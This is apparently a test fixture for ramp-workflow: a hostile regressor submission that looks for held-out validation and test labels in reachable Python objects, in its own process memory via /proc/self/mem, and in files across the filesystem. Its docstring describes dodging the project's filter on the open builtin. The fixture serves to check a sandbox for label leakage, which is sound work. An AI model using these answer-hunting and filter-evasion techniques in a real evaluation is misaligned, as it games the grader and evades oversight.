"""A hostile RAMP regressor: it looks for the labels of its fold's validation rows and of
the test rows in the objects it is handed and can reach, in its own memory, and in every
file it can see, and prints what it found. TARGETS (filled in by the test) holds them
masked, each label sequence in two halves that are never put together in memory: only a
real copy can match. Files are read through io: ramp-workflow refuses a submission
whose text names the builtin after a space or after "os." (a filter it says is easy to
get around)."""
import gc
import io
import json
import os
import sys

import numpy as np

TARGETS = json.loads(bytes.fromhex("{targets}"))
MASK = TARGETS["mask"]
CHUNK = 16 * 1024**2
SKIPPED = ("/proc", "/sys", "/dev", "/usr", "/run", "/var/lib/apt", "/var/cache", "/boot",
           "/snap", "/opt", "/work/main", os.path.realpath(sys.prefix),
           os.path.realpath(sys.base_prefix))
FILE_CAP = 4 * 1024**2


def _unmask(text):
    return bytes(b ^ MASK for b in bytes.fromhex(text))


def _matches(data, first, second):
    count, start = 0, data.find(first)
    while start >= 0:
        if data[start + len(first): start + len(first) + len(second)] == second:
            count += 1
        start = data.find(first, start + 1)
    return count


def _search_memory(patterns):
    found = [0] * len(patterns)
    with io.open("/proc/self/maps") as maps:  # noqa: UP020
        ranges = [line.split() for line in maps]
    overlap = max(len(a) + len(b) for a, b in patterns)
    with io.open("/proc/self/mem", "rb", buffering=0) as mem:  # noqa: UP020
        for fields in ranges:
            if not fields[1].startswith("r") or (len(fields) > 5 and fields[5] in ("[vvar]", "[vsyscall]")):
                continue
            low, high = (int(part, 16) for part in fields[0].split("-"))
            while low < high:
                size = min(CHUNK, high - low)
                try:
                    mem.seek(low)
                    data = mem.read(size)
                except (OSError, ValueError, OverflowError):
                    break
                for n, (first, second) in enumerate(patterns):
                    found[n] += _matches(data, first, second)
                del data
                if low + size >= high:
                    break
                low += size - overlap
    return found


def _candidates(mine):
    """Every array-like the process can reach: containers' values, frames' locals, attributes."""
    seen = set(mine)
    values = []
    frame = sys._getframe()
    while frame is not None:
        values.extend(frame.f_locals.values())
        frame = frame.f_back
    gc.unfreeze()  # what the runner froze before forking, back in the collector's sight
    for obj in gc.get_objects():
        if isinstance(obj, dict):
            values.extend(obj.values())
        elif isinstance(obj, list | tuple):
            values.extend(obj)
        for name in ("y_train", "y", "y_array", "y_fit", "y_true"):
            try:
                values.append(getattr(obj, name, None))
            except Exception:
                pass
    for value in values:
        if id(value) in seen or value is None or isinstance(value, str | bytes):
            continue
        if isinstance(value, np.ndarray) or type(value).__name__ in ("Series", "DataFrame", "list"):
            seen.add(id(value))
            yield value


def _holds(candidate, labels, rows):
    """Whether CANDIDATE holds LABELS at ROWS (a label sequence of its full length)."""
    try:
        if len(candidate) != len(labels) or not len(rows):
            return False
        values = np.asarray(candidate, dtype=float).reshape(len(labels), -1)[:, 0]
    except (TypeError, ValueError):
        return False
    return bool(np.all(values[rows] == labels[rows]))


def _search_files(needles):
    """Files under the roots (and / to a few levels) holding each needle: [(first, second)]
    pairs of bytes, or lists of lines (a file matches when it holds any of them)."""
    found = [[] for _ in needles]
    roots = ["/", *TARGETS["roots"]]
    visited = set()
    for top in roots:
        if not os.path.isdir(top):
            print("no folder", top, flush=True)
            continue
        for folder, subdirs, names in os.walk(top):
            depth = folder.rstrip("/").count("/")
            if top == "/" and depth >= 3 or folder.startswith(SKIPPED):
                subdirs[:] = []
                if folder.startswith(SKIPPED):
                    continue
            for name in names:
                path = os.path.join(folder, name)
                if path in visited or os.path.islink(path):
                    continue
                visited.add(path)
                try:
                    if not os.path.isfile(path) or os.path.getsize(path) > FILE_CAP:
                        continue
                    with io.open(path, "rb") as handle:  # noqa: UP020
                        data = handle.read()
                except OSError:
                    continue
                for n, needle in enumerate(needles):
                    if isinstance(needle, tuple):
                        hit = _matches(data, *needle) > 0
                    else:
                        hit = any(line in data for line in needle)
                    if hit:
                        found[n].append(path)
    return found


class Regressor:
    def fit(self, X, y):
        n_train = TARGETS["n_train"]
        valid = np.load("valid_idx.npy", allow_pickle=False)
        print("given rows", len(y), "of", n_train, "valid rows", len(valid), flush=True)
        train = (_unmask(TARGETS["train_first"]), _unmask(TARGETS["train_second"]))
        test = (_unmask(TARGETS["test_first"]), _unmask(TARGETS["test_second"]))
        # Labels as Python floats, one object each: no contiguous copy of them is made.
        y_all = np.array([*np.frombuffer(train[0]).tolist(), *np.frombuffer(train[1]).tolist()],
                         dtype=object)
        y_test = np.array([*np.frombuffer(test[0]).tolist(), *np.frombuffer(test[1]).tolist()],
                          dtype=object)
        rows = np.arange(len(y_test))
        objects = test_objects = 0
        for candidate in _candidates({id(y_all), id(y_test)}):
            objects += _holds(candidate, y_all, valid)
            test_objects += _holds(candidate, y_test, rows)
        print("object matches", objects, flush=True)
        print("test object matches", test_objects, flush=True)
        memory, test_memory = _search_memory([train, test])
        print("memory matches", memory, flush=True)
        print("test memory matches", test_memory, flush=True)
        train_lines = [_unmask(TARGETS["train_lines"][int(i)]) for i in valid]
        test_lines = [_unmask(line) for line in TARGETS["test_lines"]]
        found = _search_files([train, train_lines, test, test_lines])
        files = sorted(set(found[0]) | set(found[1]))
        test_files = sorted(set(found[2]) | set(found[3]))
        print("file matches", len(files), flush=True)
        print("test file matches", len(test_files), flush=True)
        for path in files + test_files:
            print("found", path, flush=True)
        self.mean = float(np.mean(y))
        return self

    def predict(self, X):
        return np.full(len(X), self.mean)
